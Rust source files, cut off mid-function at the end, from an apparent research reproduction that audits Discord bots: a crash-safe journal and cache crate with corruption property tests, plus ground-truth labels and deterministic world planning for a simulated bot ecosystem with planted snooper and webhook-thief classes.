//! # store — crash-safe persistence for the audit pipeline
//!
//! The paper's measurement ran for weeks against live services and had to
//! survive captchas, rate limits, and crashes mid-crawl (§4.2). This crate
//! is the durability layer that gives the reproduction the same property:
//!
//! * [`frame`] — length-prefixed, CRC-checksummed records; decoding any
//!   byte soup recovers the longest valid prefix and never panics;
//! * [`journal`] — the append-only write-ahead log of completed pipeline
//!   units, with truncate-to-valid-prefix crash recovery;
//! * [`cache`] — the content-addressed artifact cache: canonical input
//!   bytes hash to an address, blobs live in an append-only pack with
//!   atomic compaction, so unchanged bots are never re-analyzed across
//!   runs;
//! * [`backend`] — one file-shaped trait with hermetic in-memory and
//!   crash-safe on-disk implementations, so every test can run against
//!   RAM and every production run against a directory;
//! * [`store`] — the [`AuditStore`] facade the pipeline holds: journal +
//!   pack scoped to a seed/config fingerprint, plus the kill-switch used
//!   to simulate crashes at exact frame boundaries;
//! * [`validators`] — the journaled HTTP-validator cache behind the
//!   conditional-fetch incremental crawl: URL → (ETag, cached body)
//!   entries that let a warm re-audit validate unchanged pages for one
//!   cheap round-trip instead of a full fetch + parse.
//!
//! Like `matchkit`, the crate is intentionally dependency-free: payloads
//! are opaque bytes (serialization stays with the caller), hashing and
//! checksumming are implemented here, and the property tests use an
//! in-crate xorshift generator.

#![warn(missing_docs)]
#![forbid(unsafe_code)]

pub mod backend;
pub mod cache;
pub mod checksum;
pub mod frame;
pub mod hash;
pub mod journal;
pub mod store;
pub mod validators;

pub use backend::{Backend, DiskBackend, MemBackend, ScopedBackend};
pub use cache::{ArtifactCache, CacheSnapshot};
pub use checksum::crc32;
pub use frame::{decode_all, Decoded, Frame, StopReason};
pub use hash::{fingerprint, fnv64, ContentHash};
pub use journal::{Journal, Replay};
pub use store::{AuditStore, StoreError, StoreStats, JOURNAL_FILE, K_RUN_HEADER, PACK_FILE};
pub use validators::{ValidatorCache, ValidatorCacheStats, VALIDATOR_FILE};
