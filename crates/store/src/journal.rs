//! The write-ahead journal: an append-only frame log with crash recovery.
//!
//! Every completed pipeline unit becomes one [`Frame`] appended to a single
//! backend file. Opening the journal replays the longest valid frame prefix
//! (torn tails and flipped bits are detected by the frame checksums) and,
//! when the file carries damage, truncates it back to that prefix with one
//! atomic rewrite — so the next append lands after known-good bytes instead
//! of burying new frames behind garbage that replay would never reach.

use crate::backend::Backend;
use crate::frame::{decode_all, Frame, StopReason};
use std::io;
use std::sync::atomic::{AtomicU64, Ordering};
use std::sync::{Arc, Mutex};

/// What [`Journal::open`] found in the file.
#[derive(Debug, Clone)]
pub struct Replay {
    /// The recovered frames, in append order.
    pub frames: Vec<Frame>,
    /// Bytes of journal the frames span.
    pub valid_bytes: usize,
    /// True when damage (torn tail or corruption) was found and the file
    /// was truncated back to the valid prefix.
    pub repaired: bool,
}

/// An append-only, checksummed frame log over one backend file.
pub struct Journal {
    backend: Arc<dyn Backend>,
    file: String,
    // Serializes appends from concurrent pipeline workers so frames land
    // contiguously even on backends whose append is not atomic.
    append_lock: Mutex<()>,
    frames_written: AtomicU64,
    frames_replayed: AtomicU64,
}

impl Journal {
    /// Open `file` on `backend`, replaying (and if necessary repairing) any
    /// existing contents.
    pub fn open(backend: Arc<dyn Backend>, file: &str) -> io::Result<(Journal, Replay)> {
        let bytes = backend.read(file)?.unwrap_or_default();
        let decoded = decode_all(&bytes);
        let repaired = decoded.stop != StopReason::CleanEnd;
        if repaired {
            // Truncate to the valid prefix so future appends are reachable.
            backend.write_atomic(file, &bytes[..decoded.valid_bytes])?;
        }
        let journal = Journal {
            backend,
            file: file.to_string(),
            append_lock: Mutex::new(()),
            frames_written: AtomicU64::new(0),
            frames_replayed: AtomicU64::new(decoded.frames.len() as u64),
        };
        let replay = Replay {
            frames: decoded.frames,
            valid_bytes: decoded.valid_bytes,
            repaired,
        };
        Ok((journal, replay))
    }

    /// Open `file` after discarding any previous contents — a fresh run
    /// that keeps no frames (the artifact cache lives in its own file and
    /// survives).
    pub fn open_fresh(backend: Arc<dyn Backend>, file: &str) -> io::Result<Journal> {
        backend.write_atomic(file, &[])?;
        let (journal, _) = Journal::open(backend, file)?;
        Ok(journal)
    }

    /// Append one frame durably.
    pub fn append(&self, kind: u16, key: u64, payload: Vec<u8>) -> io::Result<()> {
        let frame = Frame::new(kind, key, payload);
        let _guard = self.append_lock.lock().expect("journal append lock");
        self.backend.append(&self.file, &frame.encode())?;
        self.frames_written.fetch_add(1, Ordering::Relaxed);
        Ok(())
    }

    /// Frames appended through this handle (not counting replayed ones).
    pub fn frames_written(&self) -> u64 {
        self.frames_written.load(Ordering::Relaxed)
    }

    /// Frames recovered at open time.
    pub fn frames_replayed(&self) -> u64 {
        self.frames_replayed.load(Ordering::Relaxed)
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::backend::MemBackend;

    fn mem() -> Arc<MemBackend> {
        Arc::new(MemBackend::new())
    }

    #[test]
    fn append_then_reopen_replays() {
        let backend = mem();
        let (journal, replay) = Journal::open(backend.clone(), "wal").unwrap();
        assert!(replay.frames.is_empty());
        journal.append(1, 10, b"alpha".to_vec()).unwrap();
        journal.append(2, 20, b"beta".to_vec()).unwrap();
        assert_eq!(journal.frames_written(), 2);

        let (journal2, replay2) = Journal::open(backend, "wal").unwrap();
        assert_eq!(replay2.frames.len(), 2);
        assert_eq!(replay2.frames[1].payload, b"beta");
        assert!(!replay2.repaired);
        assert_eq!(journal2.frames_replayed(), 2);
    }

    #[test]
    fn torn_tail_is_truncated_and_appendable() {
        let backend = mem();
        let (journal, _) = Journal::open(backend.clone(), "wal").unwrap();
        journal.append(1, 1, b"keep".to_vec()).unwrap();
        journal.append(1, 2, b"tear me".to_vec()).unwrap();

        // Tear the last frame mid-payload.
        let bytes = backend.read("wal").unwrap().unwrap();
        backend.poke("wal", bytes[..bytes.len() - 3].to_vec());

        let (journal, replay) = Journal::open(backend.clone(), "wal").unwrap();
        assert_eq!(replay.frames.len(), 1);
        assert!(replay.repaired);
        // New appends land after the valid prefix and replay cleanly.
        journal.append(1, 3, b"after repair".to_vec()).unwrap();
        let (_, replay) = Journal::open(backend, "wal").unwrap();
        assert_eq!(replay.frames.len(), 2);
        assert_eq!(replay.frames[1].payload, b"after repair");
        assert!(!replay.repaired);
    }

    #[test]
    fn open_fresh_discards_history() {
        let backend = mem();
        let (journal, _) = Journal::open(backend.clone(), "wal").unwrap();
        journal.append(1, 1, b"old run".to_vec()).unwrap();
        let journal = Journal::open_fresh(backend.clone(), "wal").unwrap();
        assert_eq!(journal.frames_replayed(), 0);
        let (_, replay) = Journal::open(backend, "wal").unwrap();
        assert!(replay.frames.is_empty());
    }
}
