//! Property tests for the journal and frame codec.
//!
//! Like `matchkit`, `store` is dependency-free (no dev-deps either), so
//! these use a small deterministic xorshift generator instead of proptest.
//! The central property: **decoding any corruption of a valid journal
//! never panics and recovers exactly the longest valid frame prefix** —
//! that is what makes crash recovery safe against torn writes, bit rot,
//! and truncation at arbitrary byte offsets.

use std::sync::Arc;
use store::{
    decode_all, AuditStore, Backend, Frame, Journal, MemBackend, StopReason, JOURNAL_FILE,
};

/// xorshift64* — deterministic, seedable, good enough for fuzz inputs.
struct Rng(u64);

impl Rng {
    fn new(seed: u64) -> Rng {
        Rng(seed.max(1))
    }

    fn next(&mut self) -> u64 {
        let mut x = self.0;
        x ^= x << 13;
        x ^= x >> 7;
        x ^= x << 17;
        self.0 = x;
        x.wrapping_mul(0x2545_f491_4f6c_dd1d)
    }

    fn below(&mut self, n: usize) -> usize {
        (self.next() % n.max(1) as u64) as usize
    }

    fn frame(&mut self) -> Frame {
        let len = self.below(200);
        let payload: Vec<u8> = (0..len).map(|_| self.next() as u8).collect();
        Frame {
            kind: self.next() as u16,
            key: self.next(),
            payload,
        }
    }

    fn frames(&mut self, max: usize) -> Vec<Frame> {
        (0..1 + self.below(max)).map(|_| self.frame()).collect()
    }
}

fn encode_all(frames: &[Frame]) -> Vec<u8> {
    let mut buf = Vec::new();
    for f in frames {
        buf.extend_from_slice(&f.encode());
    }
    buf
}

#[test]
fn arbitrary_frames_round_trip() {
    let mut rng = Rng::new(0xfeed);
    for _ in 0..200 {
        let frames = rng.frames(12);
        let buf = encode_all(&frames);
        let decoded = decode_all(&buf);
        assert_eq!(decoded.frames, frames);
        assert_eq!(decoded.valid_bytes, buf.len());
        assert_eq!(decoded.stop, StopReason::CleanEnd);
    }
}

#[test]
fn truncation_at_every_offset_recovers_longest_valid_prefix() {
    let mut rng = Rng::new(0xbeef);
    for _ in 0..100 {
        let frames = rng.frames(6);
        let buf = encode_all(&frames);
        // Frame boundaries, so a cut maps to an expected prefix length.
        let mut boundaries = vec![0usize];
        for f in &frames {
            boundaries.push(boundaries.last().unwrap() + f.encode().len());
        }
        let cut = rng.below(buf.len() + 1);
        let decoded = decode_all(&buf[..cut]);
        let expect_frames = boundaries.iter().filter(|&&b| b > 0 && b <= cut).count();
        assert_eq!(decoded.frames.len(), expect_frames, "cut at {cut}");
        assert_eq!(decoded.frames[..], frames[..expect_frames]);
        assert_eq!(decoded.valid_bytes, boundaries[expect_frames]);
        if cut == *boundaries.last().unwrap() {
            assert_eq!(decoded.stop, StopReason::CleanEnd);
        } else {
            assert_eq!(decoded.stop, StopReason::Truncated);
        }
    }
}

#[test]
fn bit_flips_at_arbitrary_offsets_never_panic_and_keep_the_prefix() {
    let mut rng = Rng::new(0xc0ffee);
    for case in 0..300 {
        let frames = rng.frames(6);
        let mut buf = encode_all(&frames);
        let mut boundaries = vec![0usize];
        for f in &frames {
            boundaries.push(boundaries.last().unwrap() + f.encode().len());
        }
        let flip_at = rng.below(buf.len());
        buf[flip_at] ^= 1 << rng.below(8);

        // Must not panic, and every frame wholly before the flipped byte
        // must survive verbatim (damage cannot corrupt data behind it).
        let decoded = decode_all(&buf);
        let intact = boundaries
            .iter()
            .filter(|&&b| b > 0 && b <= flip_at)
            .count();
        assert!(
            decoded.frames.len() >= intact,
            "case {case}: flip at {flip_at} lost intact frames ({} < {intact})",
            decoded.frames.len(),
        );
        assert_eq!(decoded.frames[..intact], frames[..intact], "case {case}");
        // The flipped frame itself must never be accepted with wrong bytes:
        // whatever decoded beyond the intact prefix re-encodes to exactly
        // the bytes it claims to occupy.
        assert_eq!(
            encode_all(&decoded.frames).len(),
            decoded.valid_bytes,
            "case {case}"
        );
    }
}

#[test]
fn random_garbage_never_panics() {
    let mut rng = Rng::new(0xdead);
    for _ in 0..300 {
        let len = rng.below(400);
        let garbage: Vec<u8> = (0..len).map(|_| rng.next() as u8).collect();
        let decoded = decode_all(&garbage);
        assert!(decoded.valid_bytes <= garbage.len());
    }
}

#[test]
fn journal_reopen_after_corruption_replays_prefix_and_repairs() {
    let mut rng = Rng::new(0x5eed);
    for case in 0..100 {
        let backend = Arc::new(MemBackend::new());
        let (journal, _) = Journal::open(backend.clone(), JOURNAL_FILE).unwrap();
        let frames = rng.frames(8);
        for f in &frames {
            journal.append(f.kind, f.key, f.payload.clone()).unwrap();
        }
        drop(journal);

        // Corrupt the tail: truncate, or flip a byte, at a random offset.
        let raw = backend.read(JOURNAL_FILE).unwrap().expect("journal exists");
        let mut boundaries = vec![0usize];
        for f in &frames {
            boundaries.push(boundaries.last().unwrap() + f.encode().len());
        }
        let offset = rng.below(raw.len());
        let damaged = if rng.below(2) == 0 {
            raw[..offset].to_vec()
        } else {
            let mut copy = raw.clone();
            copy[offset] ^= 1 << rng.below(8);
            copy
        };
        backend.poke(JOURNAL_FILE, damaged);

        // Reopen: must not panic, must replay a prefix of what was written,
        // and must leave the file decodable end-to-end (repair truncates).
        let (journal, replay) = Journal::open(backend.clone(), JOURNAL_FILE).unwrap();
        let n = replay.frames.len();
        assert!(n <= frames.len(), "case {case}");
        let intact = boundaries.iter().filter(|&&b| b > 0 && b <= offset).count();
        assert!(n >= intact, "case {case}: lost frames before the damage");
        assert_eq!(replay.frames[..intact], frames[..intact], "case {case}");

        // The repaired journal accepts new appends and replays them.
        journal.append(0xabcd, 7, b"post-repair".to_vec()).unwrap();
        drop(journal);
        let (_, replay2) = Journal::open(backend, JOURNAL_FILE).unwrap();
        assert_eq!(replay2.frames.len(), n + 1, "case {case}");
        assert_eq!(replay2.frames[n].kind, 0xabcd, "case {case}");
    }
}

#[test]
fn store_resumes_from_any_corruption_without_panicking() {
    let mut rng = Rng::new(0xa11d);
    for case in 0..100 {
        let backend = Arc::new(MemBackend::new());
        let store = AuditStore::open(backend.clone(), 42, false).unwrap();
        let units = 1 + rng.below(10);
        for key in 0..units as u64 {
            let payload: Vec<u8> = (0..rng.below(64)).map(|_| rng.next() as u8).collect();
            store.record_unit(0x0100, key, payload).unwrap();
        }
        drop(store);

        let raw = backend.read(JOURNAL_FILE).unwrap().expect("journal exists");
        let offset = rng.below(raw.len());
        let damaged = match rng.below(3) {
            0 => raw[..offset].to_vec(),
            1 => {
                let mut copy = raw.clone();
                copy[offset] ^= 0xff;
                copy
            }
            _ => {
                // Torn tail plus garbage: the messiest realistic crash.
                let mut copy = raw[..offset].to_vec();
                copy.extend((0..rng.below(40)).map(|_| rng.next() as u8));
                copy
            }
        };
        backend.poke(JOURNAL_FILE, damaged);

        let store = AuditStore::open(backend, 42, true).unwrap();
        let recovered = (0..units as u64)
            .filter(|&k| store.lookup_unit(0x0100, k).is_some())
            .count();
        assert!(recovered <= units, "case {case}");
        // Whatever was lost can simply be re-recorded.
        for key in 0..units as u64 {
            if store.lookup_unit(0x0100, key).is_none() {
                store.record_unit(0x0100, key, b"redone".to_vec()).unwrap();
            }
        }
        assert_eq!(
            (0..units as u64)
                .filter(|&k| store.lookup_unit(0x0100, k).is_some())
                .count(),
            units,
            "case {case}"
        );
    }
}
