//! Ground-truth labels for the planted population.

use discord_sim::Permissions;
use serde::{Deserialize, Serialize};

/// What kind of invite link a listing was planted with.
#[derive(Debug, Clone, Copy, PartialEq, Eq, Serialize, Deserialize)]
pub enum InviteClass {
    /// A live OAuth link with a decodable permission field.
    Valid,
    /// The app was removed from the platform (410 on the install page).
    Removed,
    /// Garbage that does not parse as an OAuth URL.
    Malformed,
    /// A redirector host that no longer resolves.
    DeadRedirect,
    /// A redirector so slow clients time out.
    SlowRedirect,
}

/// How the bot hosts (or fails to host) a privacy policy.
#[derive(Debug, Clone, Copy, PartialEq, Eq, Serialize, Deserialize)]
pub enum PolicyClass {
    /// No website at all.
    NoWebsite,
    /// Website, but no policy link.
    NoPolicy,
    /// Policy link that 404s.
    DeadPolicyLink,
    /// Generic boilerplate (partial traceability, not tailored).
    GenericPolicy,
    /// A tailored but incomplete policy (partial traceability).
    PartialPolicy,
    /// A tailored policy describing all four data practices (complete
    /// traceability). The paper found none in its snapshot; this class only
    /// appears when the drift model upgrades a bot's policy in a later
    /// epoch.
    CompletePolicy,
}

/// What the listing's GitHub link leads to.
#[derive(Debug, Clone, Copy, PartialEq, Eq, Serialize, Deserialize)]
pub enum GithubClass {
    /// No GitHub link listed.
    None,
    /// A JS repo; the flag records whether it performs invoker checks.
    JsRepo {
        /// Ground truth: does the source contain a Table 3 check?
        checks: bool,
    },
    /// A Python repo.
    PyRepo {
        /// Ground truth: does the source contain a Table 3 check?
        checks: bool,
    },
    /// A repo in a language outside the analysis scope.
    OtherLanguageRepo,
    /// A "valid repository" holding only a READ.ME.
    ReadmeOnly,
    /// A repo holding only license/changelog text.
    LicenseOnly,
    /// A link to a user profile (repos exist, none named).
    Profile,
    /// A profile with no public repositories.
    EmptyProfile,
    /// A dead link.
    DeadLink,
}

impl GithubClass {
    /// Does the link lead to a *valid repository* (the paper's 60.46%)?
    pub fn is_valid_repo(self) -> bool {
        matches!(
            self,
            GithubClass::JsRepo { .. }
                | GithubClass::PyRepo { .. }
                | GithubClass::OtherLanguageRepo
                | GithubClass::ReadmeOnly
                | GithubClass::LicenseOnly
        )
    }

    /// Does the repo contain real source code (the paper's 14.39% base)?
    pub fn has_source(self) -> bool {
        matches!(
            self,
            GithubClass::JsRepo { .. }
                | GithubClass::PyRepo { .. }
                | GithubClass::OtherLanguageRepo
        )
    }
}

/// The backend behaviour planted for a bot.
#[derive(Debug, Clone, Copy, PartialEq, Eq, Serialize, Deserialize)]
pub enum BehaviorClass {
    /// Well-behaved command bot.
    Benign,
    /// Developer-snooper ("Melonian").
    Snooper,
    /// Automated harvester.
    Exfiltrator,
    /// Webhook-credential thief (the Spidey-Bot pattern, paper cite \[54\]).
    WebhookThief,
}

/// Everything planted about one bot.
#[derive(Debug, Clone, Serialize, Deserialize)]
pub struct BotTruth {
    /// Client/application ID (0 for removed bots that were never
    /// registered on the platform).
    pub client_id: u64,
    /// Listing name.
    pub name: String,
    /// Developer handles.
    pub developers: Vec<String>,
    /// Invite-link class.
    pub invite_class: InviteClass,
    /// The permissions encoded in the invite (None when not decodable).
    pub permissions: Option<Permissions>,
    /// Policy hosting class.
    pub policy_class: PolicyClass,
    /// GitHub link class.
    pub github_class: GithubClass,
    /// Planted backend behaviour.
    pub behavior: BehaviorClass,
    /// Listing guild count.
    pub guild_count: u64,
    /// Listing vote count.
    pub vote_count: u64,
}

/// The full planted population.
#[derive(Debug, Clone, Default, Serialize, Deserialize)]
pub struct GroundTruth {
    /// Per-bot labels, in listing order.
    pub bots: Vec<BotTruth>,
}

impl GroundTruth {
    /// Bots with valid invite links.
    pub fn valid_bots(&self) -> impl Iterator<Item = &BotTruth> {
        self.bots
            .iter()
            .filter(|b| b.invite_class == InviteClass::Valid)
    }

    /// Fraction of valid bots whose planted permissions include `perm`.
    pub fn permission_rate(&self, perm: Permissions) -> f64 {
        let valid: Vec<&BotTruth> = self.valid_bots().collect();
        if valid.is_empty() {
            return 0.0;
        }
        let with = valid
            .iter()
            .filter(|b| b.permissions.map(|p| p.contains(perm)).unwrap_or(false))
            .count();
        with as f64 / valid.len() as f64
    }

    /// Developer → bot-count histogram (the Table 1 shape), considering
    /// only attributed developers.
    pub fn developer_histogram(&self) -> std::collections::BTreeMap<u32, u32> {
        let mut per_dev: std::collections::BTreeMap<&str, u32> = Default::default();
        for bot in &self.bots {
            for dev in &bot.developers {
                // Handles containing '/' are third-party-platform pseudo
                // developers (botghost.com/user-123): unattributed in the
                // paper's Table 1 and excluded here too.
                if dev.contains('/') {
                    continue;
                }
                *per_dev.entry(dev.as_str()).or_default() += 1;
            }
        }
        let mut histogram: std::collections::BTreeMap<u32, u32> = Default::default();
        for (_, count) in per_dev {
            *histogram.entry(count).or_default() += 1;
        }
        histogram
    }

    /// Look up a bot by name.
    pub fn by_name(&self, name: &str) -> Option<&BotTruth> {
        self.bots.iter().find(|b| b.name == name)
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    fn truth_with(bots: Vec<BotTruth>) -> GroundTruth {
        GroundTruth { bots }
    }

    fn bot(name: &str, class: InviteClass, perms: Option<Permissions>, devs: &[&str]) -> BotTruth {
        BotTruth {
            client_id: 1,
            name: name.into(),
            developers: devs.iter().map(|d| d.to_string()).collect(),
            invite_class: class,
            permissions: perms,
            policy_class: PolicyClass::NoWebsite,
            github_class: GithubClass::None,
            behavior: BehaviorClass::Benign,
            guild_count: 0,
            vote_count: 0,
        }
    }

    #[test]
    fn permission_rate_over_valid_only() {
        let t = truth_with(vec![
            bot(
                "a",
                InviteClass::Valid,
                Some(Permissions::ADMINISTRATOR),
                &["d1"],
            ),
            bot(
                "b",
                InviteClass::Valid,
                Some(Permissions::SEND_MESSAGES),
                &["d1"],
            ),
            bot("c", InviteClass::Malformed, None, &["d2"]),
        ]);
        assert!((t.permission_rate(Permissions::ADMINISTRATOR) - 0.5).abs() < 1e-9);
        assert_eq!(t.valid_bots().count(), 2);
    }

    #[test]
    fn developer_histogram_shape() {
        let t = truth_with(vec![
            bot("a", InviteClass::Valid, None, &["solo1"]),
            bot("b", InviteClass::Valid, None, &["solo2"]),
            bot("c", InviteClass::Valid, None, &["prolific"]),
            bot("d", InviteClass::Valid, None, &["prolific"]),
        ]);
        let h = t.developer_histogram();
        assert_eq!(h.get(&1), Some(&2));
        assert_eq!(h.get(&2), Some(&1));
    }

    #[test]
    fn github_class_predicates() {
        assert!(GithubClass::JsRepo { checks: true }.is_valid_repo());
        assert!(GithubClass::ReadmeOnly.is_valid_repo());
        assert!(!GithubClass::Profile.is_valid_repo());
        assert!(!GithubClass::DeadLink.is_valid_repo());
        assert!(GithubClass::PyRepo { checks: false }.has_source());
        assert!(!GithubClass::ReadmeOnly.has_source());
    }
}
