//! The plan phase of world assembly.
//!
//! [`plan_world`] performs every random draw [`crate::build::build_ecosystem`]
//! used to make inline, in exactly the same sequential order, but captures
//! the outcome as pure data ([`WorldPlan`]) instead of mounting services as
//! it goes. Splitting planning from mounting is what makes longitudinal
//! drift possible: [`crate::drift`] mutates the plan between epochs, and the
//! mount phase (which consumes no randomness) materialises whichever epoch
//! of the ecosystem is being audited.
//!
//! **Determinism contract:** for a given [`EcosystemConfig`] the plan's RNG
//! draw sequence is frozen — the epoch-0 world must stay byte-identical to
//! what the one-pass builder produced, or every golden report in the
//! workspace breaks. Any new randomness must draw from a *separate* stream
//! (the drift layer does exactly that).

use crate::config::EcosystemConfig;
use crate::developers::assign_developers;
use crate::permissions::sample_permissions;
use crate::truth::{BehaviorClass, GithubClass, InviteClass, PolicyClass};
use codeanal::genrepo;
use codeanal::github::GITHUB_HOST;
use codeanal::Repository;
use discord_sim::Permissions;
use policy::PrivacyPolicy;
use rand::rngs::StdRng;
use rand::{Rng, SeedableRng};

pub(crate) const NAME_PARTS_A: &[&str] = &[
    "Mega", "Ultra", "Hyper", "Turbo", "Pixel", "Nova", "Astro", "Crypto", "Chill", "Melo",
    "Rhythm", "Meme", "Quant", "Robo", "Zen", "Echo", "Frost", "Ember", "Lunar", "Solar",
];
pub(crate) const NAME_PARTS_B: &[&str] = &[
    "Mod", "Bot", "Tunes", "Guard", "Helper", "Games", "Stats", "Quotes", "Polls", "Welcome",
    "Rank", "Econ", "Trivia", "Clips", "Alerts", "Logs", "Vibes", "Pets", "Duels", "News",
];
const TAGS: &[&str] = &[
    "gaming",
    "fun",
    "social",
    "music",
    "meme",
    "moderation",
    "utility",
    "economy",
];

/// Something the plan wants published on the GitHub site. Publishes are
/// kept even when drift later removes the *link* — other bots of the same
/// developer may still point at the shared URL.
#[derive(Debug, Clone)]
pub(crate) enum GithubPublish {
    /// A full repository.
    Repo(Repository),
    /// A profile page with no public repositories.
    EmptyProfile(String),
}

/// Everything decided about one bot before anything is mounted.
#[derive(Debug, Clone)]
pub(crate) struct BotPlan {
    pub idx: usize,
    pub name: String,
    pub developers: Vec<String>,
    pub behavior: BehaviorClass,
    pub invite_class: InviteClass,
    /// Permissions encoded in a live invite (Valid / SlowRedirect bots).
    pub permissions: Option<Permissions>,
    /// Permissions encoded in a Removed bot's ghost invite URL.
    pub ghost_permissions: Option<Permissions>,
    pub vote_count: u64,
    pub guild_count: u64,
    pub policy_class: PolicyClass,
    /// The hosted policy document (Generic / Partial / Complete classes).
    pub policy: Option<PrivacyPolicy>,
    pub github_class: GithubClass,
    pub github_link: Option<String>,
    pub publishes: Vec<GithubPublish>,
    pub tags: Vec<String>,
    pub commands: Vec<String>,
}

/// The full planned population, ready to mount (possibly after drift).
#[derive(Debug, Clone)]
pub(crate) struct WorldPlan {
    pub bots: Vec<BotPlan>,
}

fn bot_name(rng: &mut StdRng, idx: usize, behavior: BehaviorClass) -> String {
    if behavior == BehaviorClass::Snooper && idx == 0 {
        // The paper's detected snooper, by name.
        return "Melonian".to_string();
    }
    let a = NAME_PARTS_A[rng.gen_range(0..NAME_PARTS_A.len())];
    let b = NAME_PARTS_B[rng.gen_range(0..NAME_PARTS_B.len())];
    format!("{a}{b}{idx}")
}

pub(crate) fn roll_split<R: Rng + ?Sized>(rng: &mut R, split: &[f64]) -> usize {
    let total: f64 = split.iter().sum();
    let mut p: f64 = rng.gen::<f64>() * total;
    for (i, w) in split.iter().enumerate() {
        p -= w;
        if p <= 0.0 {
            return i;
        }
    }
    split.len() - 1
}

/// Which listing indices carry planted malicious backends: the snoopers /
/// exfiltrators hide among the most-voted (= lowest indices), because that
/// is the population the honeypot samples.
fn plant_behaviors(config: &EcosystemConfig) -> Vec<BehaviorClass> {
    let mut behavior_classes = vec![BehaviorClass::Benign; config.num_bots];
    let mut planted = 0usize;
    for slot in 0..config.num_snoopers.min(config.num_bots) {
        behavior_classes[slot * 7 % config.num_bots.max(1)] = BehaviorClass::Snooper;
        planted += 1;
    }
    for slot in 0..config
        .num_exfiltrators
        .min(config.num_bots.saturating_sub(planted))
    {
        let idx = (3 + slot * 11) % config.num_bots.max(1);
        if behavior_classes[idx] == BehaviorClass::Benign {
            behavior_classes[idx] = BehaviorClass::Exfiltrator;
            planted += 1;
        }
    }
    for slot in 0..config
        .num_webhook_thieves
        .min(config.num_bots.saturating_sub(planted))
    {
        let idx = (5 + slot * 13) % config.num_bots.max(1);
        if behavior_classes[idx] == BehaviorClass::Benign {
            behavior_classes[idx] = BehaviorClass::WebhookThief;
        }
    }
    behavior_classes
}

/// Run the frozen epoch-0 draw sequence and capture the outcome as data.
pub(crate) fn plan_world(config: &EcosystemConfig) -> WorldPlan {
    let mut rng = StdRng::seed_from_u64(config.seed);
    let developers = assign_developers(&mut rng, config.num_bots);
    // (primary developer, github class) → the link their first bot of that
    // class published; later bots of the same developer reuse it.
    let mut shared_links: std::collections::BTreeMap<String, String> =
        std::collections::BTreeMap::new();
    let behavior_classes = plant_behaviors(config);

    let mut bots = Vec::with_capacity(config.num_bots);
    for idx in 0..config.num_bots {
        let behavior = behavior_classes[idx];
        let name = bot_name(&mut rng, idx, behavior);

        // Popularity: a long-tailed rank curve spanning the paper's ranges
        // (votes 876K → 6; guilds 3M → 25 for the tested sample, 0 at the
        // bottom of the list).
        let rank = idx as f64 + 1.0;
        let vote_count = ((876_000.0 / rank.powf(1.35)) as u64).max(6);
        let guild_count = if idx + 50 >= config.num_bots {
            0 // "the middle and least voted … were mainly offline or not
              // being used (i.e., in 0 guilds)"
        } else {
            ((3_000_000.0 / rank.powf(1.45)) as u64).max(25)
        };

        // ---- invite link -------------------------------------------------
        let malicious = behavior != BehaviorClass::Benign;
        // Planted malicious bots always have valid invites (they must be
        // installable by the honeypot).
        let invite_class = if malicious || rng.gen_bool(config.valid_invite_fraction) {
            InviteClass::Valid
        } else {
            match roll_split(&mut rng, &config.invalid_split) {
                0 => InviteClass::Removed,
                1 => InviteClass::Malformed,
                2 => InviteClass::DeadRedirect,
                _ => InviteClass::SlowRedirect,
            }
        };

        let (permissions, ghost_permissions) = match invite_class {
            InviteClass::Valid | InviteClass::SlowRedirect => {
                let mut perms = sample_permissions(&mut rng);
                if behavior == BehaviorClass::WebhookThief {
                    // The thief's trick requires the webhook permission.
                    perms |= Permissions::MANAGE_WEBHOOKS;
                }
                (Some(perms), None)
            }
            InviteClass::Removed => (None, Some(sample_permissions(&mut rng))),
            InviteClass::Malformed | InviteClass::DeadRedirect => (None, None),
        };

        // ---- website & policy --------------------------------------------
        let policy_class = if !rng.gen_bool(config.website_fraction) {
            PolicyClass::NoWebsite
        } else if !rng.gen_bool((config.policy_link_fraction / config.website_fraction).min(1.0)) {
            PolicyClass::NoPolicy
        } else if !rng.gen_bool(config.policy_link_valid_fraction) {
            PolicyClass::DeadPolicyLink
        } else if rng.gen_bool(config.generic_policy_fraction) {
            PolicyClass::GenericPolicy
        } else {
            PolicyClass::PartialPolicy
        };
        let policy = match policy_class {
            PolicyClass::GenericPolicy => Some(policy::corpus::generic_boilerplate()),
            PolicyClass::PartialPolicy => {
                let practices = [
                    policy::DataPractice::Collect,
                    policy::DataPractice::Use,
                    policy::DataPractice::Retain,
                ];
                let n = rng.gen_range(1usize..=3);
                Some(policy::corpus::partial_policy(
                    &mut rng,
                    &name,
                    &practices[..n],
                    true,
                ))
            }
            _ => None,
        };

        // ---- github -------------------------------------------------------
        let github_class = if !rng.gen_bool(config.github_link_fraction) {
            GithubClass::None
        } else if rng.gen_bool(config.github_valid_repo_fraction) {
            match roll_split(&mut rng, &config.repo_class_split) {
                0 => GithubClass::JsRepo {
                    checks: rng.gen_bool(config.js_checks_fraction),
                },
                1 => GithubClass::PyRepo {
                    checks: rng.gen_bool(config.py_checks_fraction),
                },
                2 => GithubClass::OtherLanguageRepo,
                3 => GithubClass::ReadmeOnly,
                _ => GithubClass::LicenseOnly,
            }
        } else {
            match idx % 3 {
                0 => GithubClass::Profile,
                1 => GithubClass::EmptyProfile,
                _ => GithubClass::DeadLink,
            }
        };
        // A developer who already published a repo/profile of this exact
        // class links the same URL from all their bots (template bots
        // republished under several listings — the paper's boilerplate-reuse
        // observation, and what makes cross-bot link memoization pay off).
        let share_key = format!(
            "{}|{github_class:?}",
            developers[idx].first().map(String::as_str).unwrap_or("")
        );
        let mut publishes = Vec::new();
        let github_link = match github_class {
            GithubClass::None => None,
            GithubClass::DeadLink => Some(format!("https://{GITHUB_HOST}/ghost-{idx}/missing")),
            _ if shared_links.contains_key(&share_key) => shared_links.get(&share_key).cloned(),
            _ => {
                let link = match github_class {
                    GithubClass::Profile => {
                        let owner = format!("prof-{idx}");
                        publishes.push(GithubPublish::Repo(genrepo::readme_only_repo(&format!(
                            "{owner}/misc"
                        ))));
                        format!("https://{GITHUB_HOST}/{owner}")
                    }
                    GithubClass::EmptyProfile => {
                        let owner = format!("empty-{idx}");
                        publishes.push(GithubPublish::EmptyProfile(owner.clone()));
                        format!("https://{GITHUB_HOST}/{owner}")
                    }
                    GithubClass::JsRepo { checks } => {
                        let slug = format!("dev{idx}/{}", name.to_lowercase());
                        publishes.push(GithubPublish::Repo(genrepo::js_bot_repo(
                            &mut rng, &slug, checks,
                        )));
                        format!("https://{GITHUB_HOST}/{slug}")
                    }
